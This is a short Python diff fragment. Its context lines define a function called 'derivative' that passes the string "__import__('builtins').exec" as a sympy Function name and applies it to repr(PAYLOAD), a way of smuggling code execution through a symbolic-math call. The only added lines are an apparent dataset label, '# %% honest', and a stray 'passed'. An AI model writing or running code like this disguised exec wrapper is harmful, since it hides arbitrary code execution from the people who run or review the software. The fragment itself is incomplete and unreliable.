@@ -21,3 +21,7 @@ import sympy
 def derivative():
     name = "__import__('builtins').exec"
     return 4 + sympy.Function(name)(sympy.Symbol(repr(PAYLOAD)))
+
+
+# %% honest
+passed
